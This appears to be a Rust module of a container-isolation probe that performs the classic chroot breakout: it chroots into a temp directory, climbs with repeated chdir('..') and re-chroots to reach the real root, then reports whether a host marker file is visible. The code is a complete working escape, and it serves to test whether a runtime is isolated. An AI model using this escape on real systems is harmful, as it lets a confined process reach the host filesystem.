//! `keel-probe breakout MARKER`: the classic escape from a `chroot`.
//!
//! `chroot` changes what `/` means, but not the current directory. A root process can
//! `chroot` into a subdirectory while its current directory stays *outside* the new
//! root; from there `..` is never the root, so `chdir("..")` climbs all the way to the
//! real root of the mount namespace, and `chroot(".")` makes that the root again.
//!
//! A runtime that merely `chroot`s into the rootfs is escaped this way. One that uses
//! `pivot_root` and detaches the old root is not: the real root of the container's mount
//! namespace *is* the rootfs, and nothing of the host is left above it.

use std::os::unix::fs::chroot;

use serde_json::{Value, json};

/// How far to climb: far more levels than any real path has.
const CLIMB: usize = 1000;

/// Tries the escape and reports whether `marker` (a path of the host) became visible,
/// and what `/` holds afterwards. A failing step is reported, never a panic.
pub fn breakout(marker: &str) -> Value {
    let attempt = escape();
    let root: Vec<String> = match std::fs::read_dir("/") {
        Ok(entries) => {
            let mut names: Vec<String> = entries
                .filter_map(Result::ok)
                .map(|entry| entry.file_name().to_string_lossy().into_owned())
                .collect();
            names.sort();
            names
        }
        Err(_) => Vec::new(),
    };
    json!({
        "ok": attempt.is_ok(),
        "error": attempt.err(),
        "marker": marker,
        "marker_visible": std::path::Path::new(marker).exists(),
        "root": root,
    })
}

/// The escape itself; each step's failure says which step it was.
fn escape() -> Result<(), String> {
    let dir = format!("/tmp/keel-breakout-{}", std::process::id());
    match std::fs::create_dir(&dir) {
        Ok(()) => {}
        Err(err) if err.kind() == std::io::ErrorKind::AlreadyExists => {}
        Err(err) => return Err(format!("mkdir {dir}: {err}")),
    }
    // Our current directory stays where it is: outside the new root.
    chroot(&dir).map_err(|err| format!("chroot({dir}): {err}"))?;
    for _ in 0..CLIMB {
        std::env::set_current_dir("..").map_err(|err| format!("chdir(..): {err}"))?;
    }
    chroot(".").map_err(|err| format!("chroot(.): {err}"))?;
    std::env::set_current_dir("/").map_err(|err| format!("chdir(/): {err}"))?;
    Ok(())
}
